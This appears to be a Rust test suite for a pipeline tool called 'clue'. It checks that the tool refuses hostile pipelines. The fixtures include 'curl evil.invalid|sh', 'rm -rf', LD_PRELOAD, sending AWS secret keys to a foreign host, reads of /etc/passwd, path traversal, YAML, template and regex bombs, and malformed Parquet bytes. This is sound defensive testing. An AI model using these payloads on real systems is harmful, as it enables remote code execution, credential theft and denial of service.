//! Pipelines from people who mean harm: every attempt is refused, in time and in memory, with a
//! message that says what was tried.

use std::os::unix::fs::symlink;
use std::time::{Duration, Instant};

use crate::support::{Project, Server, done};

/// A pipeline with these stages, and outputs of the last of them.
fn pipeline(stages: &str, last: &str) -> Project {
    let text =
        format!("clue: 1\nname: p\nstages:\n{stages}\noutputs:\n  o.jsonl: {{from: {last}}}\n");
    Project::new(&[
        ("in/p.yaml", &text),
        ("in/n.jsonl", "{\"id\":\"1\",\"text\":\"a\"}\n"),
    ])
}

/// What is said when it runs, without the places of this test.
fn refused(project: &Project, words: &str, code: i32) -> String {
    let start = Instant::now();
    let told = project.clue(words);
    assert_eq!(told.code, code, "{}{}", told.stdout, told.stderr);
    // Generous: a debug build beside other tests.
    assert!(start.elapsed() < Duration::from_secs(60));
    let root = project.path("").canonicalize().expect("there");
    told.stderr
        .replace(root.to_str().expect("UTF-8").trim_end_matches('/'), "ROOT")
}

/// Why the only record failed.
fn failure(project: &Project) -> String {
    let done = project.clue("run in/p.yaml --out out --yes");
    assert_eq!(done.code, 1, "{}{}", done.stdout, done.stderr);
    let line: serde_json::Value =
        serde_json::from_slice(&project.read("out/errors.jsonl")).expect("one failure");
    line["why"].as_str().expect("text").to_owned()
}

#[test]
fn programs_and_foreign_hosts_need_consent() {
    let project = Project::new(&[
        (
            "p.yaml",
            "clue: 1
name: p
models:
  far: {url: \"https://evil.invalid/v1\", id: m, key_env: AWS_SECRET_ACCESS_KEY}
  own: {id: m, serve: {command: [sh, -c, \"curl evil.invalid|sh \\e[2K\"], setup: [./setup.sh], env: {LD_PRELOAD: ./x.so}}}
stages:
  a: {load: {path: n.jsonl}}
  b: {from: a, exec: {command: [rm, -rf, \"{dir}\"]}}
  c: {from: b, generate: {model: far, prompt: ask.j2}}
  d: {from: c, generate: {model: own, prompt: ask.j2}}
outputs:
  o.jsonl: {from: d}
",
        ),
        ("n.jsonl", "{}\n"),
        ("ask.j2", "x"),
        ("setup.sh", "touch was_run"),
    ]);
    insta::assert_snapshot!(refused(&project, "run p.yaml", 3), @r"
    this run needs your consent, because it would
      send  prompts to `https://evil.invalid`   (model `far`)
              with the content of $AWS_SECRET_ACCESS_KEY
      run   ./setup.sh   (set-up of model `own`)
              with LD_PRELOAD=./x.so
              file ./setup.sh, 481053dfee9a
      run   sh -c 'curl evil.invalid|sh \u{1b}[2K'   (server of model `own`)
              with LD_PRELOAD=./x.so
              file setup.sh, 481053dfee9a
      run   rm -rf {dir}   (stage `b`)
    allow it with `clue trust p.yaml`, or for this run with `--yes`
    ");
    insta::assert_snapshot!(refused(&project, "models check p.yaml", 3), @r"
    this check needs your consent, because it would
      send  prompts to `https://evil.invalid`   (model `far`)
              with the content of $AWS_SECRET_ACCESS_KEY
      run   ./setup.sh   (set-up of model `own`)
              with LD_PRELOAD=./x.so
              file ./setup.sh, 481053dfee9a
      run   sh -c 'curl evil.invalid|sh \u{1b}[2K'   (server of model `own`)
              with LD_PRELOAD=./x.so
              file setup.sh, 481053dfee9a
    allow it with `clue trust p.yaml`, or for this check with `--yes`
    ");
    assert!(!project.path("was_run").exists());
}

#[test]
fn paths_that_climb_or_are_linked_are_not_read() {
    let project = pipeline(
        "  a: {load: {path: ../secret.csv}}
  b: {load: {path: /etc/passwd, format: lines}}
  c: {load: {path: link.jsonl}}
  d: {load: {path: .env, format: lines}}
  e: {from: [a, b, c, d], concat: {}}",
        "e",
    );
    project.write("secret.csv", "id\nSECRET\n");
    project.write("in/.env", "SECRET\n");
    symlink("../secret.csv", project.path("in/link.jsonl")).expect("linked");
    project.write("in/.git/HEAD", "");
    insta::assert_snapshot!(refused(&project, "run in/p.yaml", 3), @"
    this run needs your consent, because it would
      read  ROOT/secret.csv   (stage `a`, stage `c`)
      read  /etc/passwd   (stage `b`)
      read  ROOT/in/.env   (stage `d`)
    allow it with `clue trust in/p.yaml`, or for this run with `--yes`
    ");
    // What the user gives is the user's.
    let text = "clue: 1\nname: p\nparams: {notes: {type: path, default: ../secret.csv}}\nstages:\n  a: {load: {path: \"{{ params.notes }}\"}}\noutputs:\n  o.jsonl: {from: a}\n";
    project.write("in/p.yaml", text);
    assert_eq!(project.clue("run in/p.yaml").code, 3);
    project.ok("run in/p.yaml -p notes=secret.csv");
}

#[test]
fn a_pipeline_in_a_home_reads_nothing_else_of_it() {
    let project = pipeline("  a: {load: {path: diary.jsonl}}", "a");
    project.write("in/diary.jsonl", "{\"x\": \"SECRET\"}\n");
    project.write("in/.git/HEAD", "");
    project.write("in/ask.j2", "SECRET");
    let run = |words: &str| {
        let mut command = project.command(words);
        command.env("HOME", project.path("in"));
        let told = done(command.output().expect("runs"));
        let root = project.path("").canonicalize().expect("there");
        let root = root.to_str().expect("UTF-8").trim_end_matches('/');
        (told.code, told.stderr.replace(root, "ROOT"))
    };
    let (code, told) = run("run in/p.yaml --out out");
    assert_eq!(code, 3);
    insta::assert_snapshot!(told, @"
    this run needs your consent, because it would
      read  ROOT/in/diary.jsonl   (stage `a`)
    allow it with `clue trust in/p.yaml`, or for this run with `--yes`
    ");
    let (code, told) = run("run in/p.yaml --out out --yes");
    assert_eq!(code, 0, "{told}");
    // Text is not shown at all.
    let text = String::from_utf8(project.read("in/p.yaml")).expect("UTF-8");
    let text = text.replace(
        "{load: {path: diary.jsonl}}",
        "{load: {path: diary.jsonl}}\n  b: {from: a, generate: {model: m, prompt: ask.j2}}",
    );
    let model = "models: {m: {id: m, url: \"http://127.0.0.1:1/v1\"}}\n";
    project.write("in/p.yaml", format!("{text}{model}"));
    let (code, told) = run("check in/p.yaml");
    assert_eq!(code, 2);
    insta::assert_snapshot!(told, @r#"
    error: `in/ask.j2` is outside of the pipeline's project
     --> in/p.yaml:5:45
      |
    5 |   b: {from: a, generate: {model: m, prompt: ask.j2}}
      |                                             ^^^^^^
      |
      = note: the pipeline has none: its folder is a home, or shared by all users
      = note: the file is `ROOT/in/ask.j2`
      = help: put the pipeline and its files into a folder of their own
    "#);
}

#[test]
fn servers_of_a_pipeline_are_asked_on_this_machine_alone() {
    let told = |model: &str| {
        let text = format!("clue: 1\nmodels:\n  m: {{id: m, {model}}}\nstages: {{}}\n");
        let project = Project::new(&[("in/p.yaml", &text)]);
        refused(&project, "check in/p.yaml", 2)
    };
    let all = [
        "url: \"http://127.0.0.1.{port}.evil.invalid/v1\", serve: {command: [x]}",
        "url: \"http://{port}/v1\", serve: {command: [x]}",
        "serve: {command: [x], health: //evil.invalid/}",
        "serve: {command: [x], health: \"/\\\\evil.invalid/\"}",
        "serve: {command: [x], health: \"http://evil.invalid/\"}",
    ];
    insta::assert_snapshot!(all.map(told).join(""), @r#"
    error: `{port}` can only be the port of `url`
     --> in/p.yaml:3:19
      |
    3 |   m: {id: m, url: "http://127.0.0.1.{port}.evil.invalid/v1", serve: {command: [x]}}
      |                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
      |
      = help: e.g. `url: http://127.0.0.1:{port}/v1`

    error: `{port}` can only be the port of `url`
     --> in/p.yaml:3:19
      |
    3 |   m: {id: m, url: "http://{port}/v1", serve: {command: [x]}}
      |                   ^^^^^^^^^^^^^^^^^^
      |
      = help: e.g. `url: http://127.0.0.1:{port}/v1`

    error: `health` must begin with `/`
     --> in/p.yaml:3:44
      |
    3 |   m: {id: m, serve: {command: [x], health: //evil.invalid/}}
      |                                            ^^^^^^^^^^^^^^^
      |
      = help: it is a path on the server, e.g. `/health`

    error: `health` must begin with `/`
     --> in/p.yaml:3:44
      |
    3 |   m: {id: m, serve: {command: [x], health: "/\\evil.invalid/"}}
      |                                            ^^^^^^^^^^^^^^^^^^
      |
      = help: it is a path on the server, e.g. `/health`

    error: `health` must begin with `/`
     --> in/p.yaml:3:44
      |
    3 |   m: {id: m, serve: {command: [x], health: "http://evil.invalid/"}}
      |                                            ^^^^^^^^^^^^^^^^^^^^^^
      |
      = help: it is a path on the server, e.g. `/health`
    "#);
}

#[test]
fn no_text_from_outside_is_shown() {
    let project = pipeline(
        "  a: {load: {path: n.jsonl}}
  b: {from: a, generate: {model: m, prompt: ../secret.j2}}
  c: {from: b, generate: {model: m, prompt: ask.j2}}
  d: {from: c, generate: {model: m, prompt: linked.j2, schema: ../secret.json}}",
        "d",
    );
    let text = String::from_utf8(project.read("in/p.yaml")).expect("UTF-8");
    let models = "models: {m: {id: m, url: \"http://127.0.0.1:1/v1\"}}\n";
    project.write("in/p.yaml", format!("{text}{models}"));
    project.write("in/.git/HEAD", "");
    project.write("secret.j2", "{{ SECRET");
    project.write("secret.json", "{SECRET");
    project.write("secret.yaml", "root: SECRET: x");
    project.write("in/ask.j2", "{% include '../secret.j2' %}");
    symlink("../secret.j2", project.path("in/linked.j2")).expect("linked");
    for words in ["check", "run", "trust"] {
        let told = refused(&project, &format!("{words} in/p.yaml"), 2);
        assert!(!told.contains("SECRET"), "{told}");
        if words == "check" {
            insta::assert_snapshot!(told, @"
            error: `secret.j2` is outside of the pipeline's project
             --> in/p.yaml:5:45
              |
            5 |   b: {from: a, generate: {model: m, prompt: ../secret.j2}}
              |                                             ^^^^^^^^^^^^
              |
              = note: the project is `ROOT/in`
              = note: the file is `ROOT/secret.j2`
              = help: give it as a param, or run clue in a folder around both, or allow it under `paths` in your configuration

            error: `in/linked.j2` is outside of the pipeline's project
             --> in/p.yaml:7:45
              |
            7 |   d: {from: c, generate: {model: m, prompt: linked.j2, schema: ../secret.json}}
              |                                             ^^^^^^^^^
              |
              = note: the project is `ROOT/in`
              = note: the file is `ROOT/secret.j2`
              = help: give it as a param, or run clue in a folder around both, or allow it under `paths` in your configuration

            error: `in/../secret.json` is outside of the pipeline's project
             --> in/p.yaml:7:64
              |
            7 |   d: {from: c, generate: {model: m, prompt: linked.j2, schema: ../secret.json}}
              |                                                                ^^^^^^^^^^^^^^
              |
              = note: the project is `ROOT/in`
              = note: the file is `ROOT/secret.json`
              = help: give it as a param, or run clue in a folder around both, or allow it under `paths` in your configuration

            error: `secret.j2` is outside of the pipeline's project
             --> in/ask.j2:1:12
              |
            1 | {% include '../secret.j2' %}
              |            ^^^^^^^^^^^^^^
              |
              = note: the project is `ROOT/in`
              = note: the file is `ROOT/secret.j2`
              = help: give it as a param, or run clue in a folder around both, or allow it under `paths` in your configuration

            4 faults
            ");
        }
    }
    project.write(
        "in/p.yaml",
        format!("{text}{models}include: ../secret.yaml\n"),
    );
    let told = refused(&project, "check in/p.yaml", 2);
    assert!(
        told.contains("`in/../secret.yaml` is outside") && !told.contains("SECRET"),
        "{told}"
    );
    // A template of a model.
    let template = models.replace("id: m,", "id: m, api: completions, chat_template: ../tok,");
    project.write("tok/chat_template.jinja", "{{ SECRET");
    project.write("in/p.yaml", format!("clue: 1\n{template}stages: {{}}\n"));
    let told = refused(&project, "check in/p.yaml", 2);
    assert!(
        told.contains("is outside of") && !told.contains("SECRET"),
        "{told}"
    );
}

#[test]
fn outputs_do_not_leave_their_folder() {
    let project = pipeline("  a: {load: {path: n.jsonl}}", "a");
    project.write("elsewhere/x", "");
    project.write("out/x", "");
    symlink("../elsewhere", project.path("out/p")).expect("linked");
    // Within the working folder all is the user's; but not what is out of it.
    let outside = tempfile::tempdir().expect("a folder");
    std::fs::remove_file(project.path("out/p")).expect("removed");
    symlink(outside.path(), project.path("out/p")).expect("linked");
    let told = refused(&project, "run in/p.yaml", 3);
    let place = outside.path().canonicalize().expect("there");
    insta::assert_snapshot!(told.replace(place.to_str().expect("UTF-8"), "OUTSIDE"), @"
    error: `out/p` would be written outside of the output folder
     |
     = note: it leads to `OUTSIDE`
     = help: name an output folder with `--out`, or remove the link

    refused: nothing was run and nothing was sent
    ");
    project.ok("run in/p.yaml --out good");
    // A link within a folder that the user named.
    std::fs::remove_file(project.path("good/o.jsonl")).expect("removed");
    symlink(outside.path(), project.path("good/sub")).expect("linked");
    let text = String::from_utf8(project.read("in/p.yaml")).expect("UTF-8");
    project.write("in/p.yaml", text.replace("o.jsonl", "sub/o.jsonl"));
    assert!(
        refused(&project, "run in/p.yaml --out good", 3).contains("outside of the output folder")
    );
    // Names that climb.
    project.write("in/p.yaml", text.replace("name: p", "name: ../../../p"));
    assert!(refused(&project, "run in/p.yaml", 3).contains("outside of the output folder"));
    project.write("in/p.yaml", text.replace("o.jsonl", "../../o.jsonl"));
    insta::assert_snapshot!(refused(&project, "run in/p.yaml", 2), @"
    error: output `../../o.jsonl` is not a plain path
     --> in/p.yaml:6:3
      |
    6 |   ../../o.jsonl: {from: a}
      |   ^^^^^^^^^^^^^
      |
      = help: name a file inside the output folder, such as `scores/all.json`

    error: an output must lie in the output folder
     --> in/p.yaml:6:3
      |
    6 |   ../../o.jsonl: {from: a}
      |   ^^^^^^^^^^^^^
      |
      = help: use a relative path without `..`

    2 faults
    ");
    assert_eq!(
        std::fs::read_dir(outside.path()).expect("a folder").count(),
        0
    );
}

#[test]
fn a_pipeline_cannot_be_a_configuration() {
    let project = pipeline("  a: {load: {path: n.jsonl}}", "a");
    let text = String::from_utf8(project.read("in/p.yaml")).expect("UTF-8");
    project.write(
        "in/p.yaml",
        format!("{text}sensitive: {{hosts: [evil.invalid]}}\n"),
    );
    insta::assert_snapshot!(refused(&project, "run in/p.yaml", 2), @"
    error: unknown key `sensitive`
     --> in/p.yaml:7:1
      |
    7 | sensitive: {hosts: [evil.invalid]}
      | ^^^^^^^^^
      |
      = note: known here: `clue`, `name`, `description`, `cite`, `license`, `params`, `models`, `stages`, `outputs`, `include`, `on_error`
    ");
}

#[test]
fn bombs_in_expressions_are_put_out() {
    let why = |expression: &str| {
        let stages = format!(
            "  a: {{load: {{path: n.jsonl}}}}\n  b: {{from: a, set: {{x: {expression:?}}}}}"
        );
        failure(&pipeline(&stages, "b"))
    };
    let told: Vec<String> = [
        "'x' * 10000000000",
        "('ab ' * 3000000) | regex_replace('a', 'b' * 100000)",
        "('a' * 1000000).replace('a', 'b' * 1000000)",
        "('{0}' * 1000000).format('x' * 1000000)",
        "'{:999999999}'.format(1)",
        "'%0999999999d' | format(1)",
        "dict(a=1) | tojson(indent=1000000000)",
        "(['x' * 1000000] * 100000) | join('')",
        "(['x' * 1000000] * 100000) | json",
        "[['x' * 1000000] * 100000]",
        "range(1000000000) | list",
        "10 ** 1000000000000",
        "text | regex_test('(((a{100}){100}){100})')",
        "text | regex_test('(?=a)')",
    ]
    .iter()
    .map(|expression| format!("{expression}: {}", why(expression)))
    .collect();
    insta::assert_snapshot!(told.join("\n"), @"
    'x' * 10000000000: engine ran out of fuel
    ('ab ' * 3000000) | regex_replace('a', 'b' * 100000): engine ran out of fuel
    ('a' * 1000000).replace('a', 'b' * 1000000): engine ran out of fuel
    ('{0}' * 1000000).format('x' * 1000000): engine ran out of fuel
    '{:999999999}'.format(1): invalid operation: `format`: a width of more than four digits
    '%0999999999d' | format(1): engine ran out of fuel
    dict(a=1) | tojson(indent=1000000000): invalid operation: `tojson`: an indent of more than 16
    (['x' * 1000000] * 100000) | join(''): invalid operation: the value is too large: more than 64 MB, or lists within lists more than 100 deep
    (['x' * 1000000] * 100000) | json: invalid operation: the value is too large: more than 64 MB, or lists within lists more than 100 deep
    [['x' * 1000000] * 100000]: invalid operation: the value is too large: more than 64 MB, or lists within lists more than 100 deep
    range(1000000000) | list: invalid operation: range has too many elements
    10 ** 1000000000000: invalid operation: unable to calculate 10 ** 1000000000000
    text | regex_test('(((a{100}){100}){100})'): invalid operation: `regex_test`: it is too large: fewer or smaller repeats are needed
    text | regex_test('(?=a)'): invalid operation: `regex_test`: look-ahead (`(?=`, `(?!`) is not supported
    ");
}

#[test]
fn a_slow_pattern_is_fast_enough() {
    for pattern in [
        "(a*)*(a*)*(a*)*b",
        "(a|aa)+$x",
        "(?:a?){500}a{500}b",
        "^(([a-z])+.)+[A-Z]([a-z])+$",
    ] {
        let stages = format!(
            "  a: {{load: {{path: n.jsonl}}}}\n  b: {{from: a, set: {{x: \"('a' * 20000) | regex_test('{pattern}')\"}}}}"
        );
        let start = Instant::now();
        pipeline(&stages, "b").ok("run in/p.yaml --out out");
        assert!(start.elapsed() < Duration::from_secs(20), "{pattern}");
    }
}

#[test]
fn bombs_in_prompts_are_put_out() {
    let double = "{% set ns = namespace(x=['a']) %}{% for i in range(60) %}{% set ns.x = [ns.x, ns.x] %}{% endfor %}";
    // Whoever drops this value, or compares it, goes down ninety thousand levels.
    let deep = |rounds: usize, then: &str| {
        format!(
            "{{% set ns = namespace(x=[]) %}}{{% for i in range({rounds}) %}}{{% set ns.x = [[[[[[[[[[ns.x]]]]]]]]]] %}}{{% endfor %}}{then}"
        )
    };
    let why = |prompt: &str| {
        let project = pipeline(
            "  a: {load: {path: n.jsonl}}\n  b: {from: a, generate: {model: m, prompt: ask.j2}}",
            "b",
        );
        let text = String::from_utf8(project.read("in/p.yaml")).expect("UTF-8");
        let models = "models: {m: {id: m, url: \"http://127.0.0.1:1/v1\"}}\n";
        project.write("in/p.yaml", format!("{text}{models}"));
        project.write("in/ask.j2", prompt);
        failure(&project)
    };
    let told: Vec<String> = [
        "{% for a in range(100000) %}{% for b in range(100000) %}{% for c in range(100000) %}x{% endfor %}{% endfor %}{% endfor %}".to_owned(),
        "{% set ns = namespace(x='a') %}{% for i in range(60) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}{{ ns.x }}".to_owned(),
        "{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}".to_owned(),
        format!("{double}{{{{ ns.x }}}}"),
        format!("{double}{{{{ ns.x | tojson }}}}"),
        deep(9000, ""),
        deep(4000, "{{ ns.x == [ns.x] }}"),
        deep(100_000, ""),
    ]
    .iter()
    .map(|prompt| why(prompt))
    .collect();
    insta::assert_snapshot!(told.join("\n"), @"
    in/ask.j2:1: engine ran out of fuel
    in/ask.j2:1: engine ran out of fuel
    in/ask.j2:1: invalid operation: recursion limit exceeded
    in/ask.j2:1: invalid operation: the value is too large: more than 64 MB, or lists within lists more than 100 deep
    in/ask.j2:1: invalid operation: the value is too large: more than 64 MB, or lists within lists more than 100 deep
    in/ask.j2: a user turn is empty
    no connection to `127.0.0.1:1`
    in/ask.j2:1: engine ran out of fuel
    ");
    let project = pipeline(
        "  a: {load: {path: n.jsonl}}\n  b: {from: a, generate: {model: m, prompt: ask.j2}}",
        "b",
    );
    let text = String::from_utf8(project.read("in/p.yaml")).expect("UTF-8");
    project.write(
        "in/p.yaml",
        format!("{text}models: {{m: {{id: m, url: \"http://127.0.0.1:1/v1\"}}}}\n"),
    );
    let model = format!(
        "models: {{m: {{id: m, api: completions, url: \"http://127.0.0.1:1/v1\", chat_template: {{inline: {:?}}}}}}}\n",
        deep(9000, "{{ messages[0].content }}")
    );
    project.write("in/q.yaml", format!("{text}{model}"));
    project.write("in/ask.j2", "x");
    project.ok("check in/q.yaml");
    project.write("in/ask.j2", "{% include 'ask.j2' %}");
    insta::assert_snapshot!(refused(&project, "check in/p.yaml", 2), @"
    error: prompts include each other: `in/ask.j2` → `in/ask.j2`
     --> in/ask.j2:1:12
      |
    1 | {% include 'ask.j2' %}
      |            ^^^^^^^^ closes the circle
    ");
}

#[test]
fn bombs_in_yaml_are_put_out() {
    let told = |text: &str| {
        let project = Project::new(&[("in/p.yaml", text)]);
        let told = refused(&project, "check in/p.yaml", 2);
        // What is large must not be told at length.
        assert!(told.len() < 5000, "{}", told.len());
        told
    };
    let mut laughs = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n".to_owned();
    for at in 1..12 {
        let inner = vec![format!("*a{}", at - 1); 10].join(", ");
        laughs.push_str(&format!("a{at}: &a{at} [{inner}]\n"));
    }
    insta::assert_snapshot!(told(&laughs), @"
    error: not valid YAML: budget breached: Nodes { nodes: 250001 }
     --> in/p.yaml:6:15
      |
    6 | a5: &a5 [*a4, *a4, *a4, *a4, *a4, *a4, *a4, *a4, *a4, *a4]
      |               ^^^
    ");
    insta::assert_snapshot!(told(&format!("clue: {}", "[".repeat(100_000))), @"
    error: not valid YAML: recursion limit exceeded
     --> in/p.yaml:1:262
      |
    1 | ...[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[...
      |                                                                    ^
    ");
    insta::assert_snapshot!(told(&format!("clue: 1\nname: {}\n", "x".repeat(17 << 20))), @"error: cannot read `in/p.yaml`: it has more than 16 MB");
    let many = "clue: 1\ninclude:\n  - file: q.yaml\n    as: \"{{ each.a }}{{ each.b }}{{ each.c }}{{ each.d }}\"\n    for_each: {a: \"{{ range(1000) | list }}\", b: \"{{ range(1000) | list }}\", c: \"{{ range(1000) | list }}\"}\nstages: {}\nparams: {x: 1}\n";
    insta::assert_snapshot!(told(&many.replace("{{ range(1000) | list }}", "{{ [params.x] * 1000 }}")), @r#"
    error: more than 10000 instances
     --> in/p.yaml:5:49
      |
    5 |     for_each: {a: "{{ [params.x] * 1000 }}", b: "{{ [params.x] * 1000 }}", c: "{{ [params.x] * 1000 }}"}
      |                                                 ^^^^^^^^^^^^^^^^^^^^^^^^^
    "#);
}

#[test]
fn a_redirect_to_another_host_is_not_followed() {
    let other = Server::bad("");
    let server = Server::bad(&format!(
        "--fault redirect --to http://127.0.0.1:{}",
        other.port
    ));
    let project = pipeline(
        "  a: {load: {path: n.jsonl, sensitive: true}}\n  b: {from: a, generate: {model: m, prompt: ask.j2}}",
        "b",
    );
    let text = String::from_utf8(project.read("in/p.yaml")).expect("UTF-8");
    project.write(
        "in/p.yaml",
        format!(
            "{text}models: {{m: {{id: m, retries: 0, url: \"{}\"}}}}\n",
            server.url()
        ),
    );
    project.write("in/ask.j2", "{{ text }}");
    let told = failure(&project).replace(&server.port.to_string(), "PORT");
    insta::assert_snapshot!(told, @"the server points to another address, which is not followed (status 307)");
    assert_eq!(other.count("/stats", "requests"), 0);
}

#[test]
fn a_proxy_is_shown_and_then_used() {
    // A server that answers any path stands in for a proxy.
    let proxy = Server::bad("");
    let project = pipeline(
        "  a: {load: {path: n.jsonl}}\n  b: {from: a, generate: {model: m, prompt: ask.j2}}",
        "b",
    );
    let text = String::from_utf8(project.read("in/p.yaml")).expect("UTF-8");
    project.write(
        "in/p.yaml",
        format!("{text}models: {{m: {{id: m, retries: 0, url: \"http://far.invalid/v1\"}}}}\n"),
    );
    project.write("in/ask.j2", "{{ text }}");
    let run = |words: &str| {
        let mut command = project.command(words);
        command.env(
            "HTTP_PROXY",
            format!("http://user:hidden@127.0.0.1:{}", proxy.port),
        );
        done(command.output().expect("runs"))
    };
    let told = run("run in/p.yaml");
    assert_eq!(told.code, 3);
    insta::assert_snapshot!(told.stderr, @"
    this run needs your consent, because it would
      send  prompts to `http://far.invalid`   (model `m`)
              not encrypted: whoever is on the way can read all of it
              through the proxy `127.0.0.1`
    allow it with `clue trust in/p.yaml`, or for this run with `--yes`
    ");
    assert_eq!(proxy.count("/stats", "requests"), 0);
    let _ = run("run in/p.yaml --yes");
    assert_eq!(proxy.count("/stats", "requests"), 1);
}

#[test]
fn names_cannot_play_tricks_on_a_terminal() {
    let project = pipeline(
        "  a: {load: {path: \"n\\e[2K\\r.jsonl\"}}\n  b: {from: a, exec: {command: [\"\\e[31mcat\"]}}",
        "b",
    );
    let told = refused(&project, "run in/p.yaml --yes", 2);
    assert!(!told.contains(['\u{1b}', '\r']), "{told:?}");
    insta::assert_snapshot!(told, @r#"
    error: no file `in/n␛[2K␍.jsonl`
     --> in/p.yaml:4:20
      |
    4 |   a: {load: {path: "n\e[2K\r.jsonl"}}
      |                    ^^^^^^^^^^^^^^^^
    "#);
}

/// The crate that reads Parquet files goes into groups as deep as they say to be, and sets aside
/// room for as many members as they say to have.
#[cfg(feature = "parquet")]
#[test]
fn columns_of_parquet_files_end_no_program() {
    // A column that must be there, `a`, with so many members, as Thrift's compact form has it.
    let column = |members: &[u8]| [&[0x35, 0, 0x18, 1, b'a', 0x15][..], members, &[0]].concat();
    let deep = column(&[2]).repeat(1_000_000);
    let many = column(&[0xfe, 0xff, 0xff, 0xff, 0x0f]).repeat(1_000_000);
    for columns in [deep, many] {
        // Version 1, a million columns, no rows, no row groups.
        let count = [0xc0, 0x84, 0x3d];
        let meta = [
            &[0x15, 2, 0x19, 0xfc][..],
            &count,
            &columns,
            &[0x16, 0, 0x19, 0x0c, 0],
        ]
        .concat();
        let length = (meta.len() as u32).to_le_bytes();
        let bytes = [b"PAR1", &meta[..], &length, b"PAR1"].concat();
        let project = pipeline("  a: {load: {path: n.parquet}}", "a");
        project.write("in/n.parquet", bytes);
        let told = refused(&project, "run in/p.yaml --out out --yes", 2);
        assert!(
            told.contains("n.parquet`: this is no Parquet file, or it is damaged"),
            "{told}"
        );
    }
}
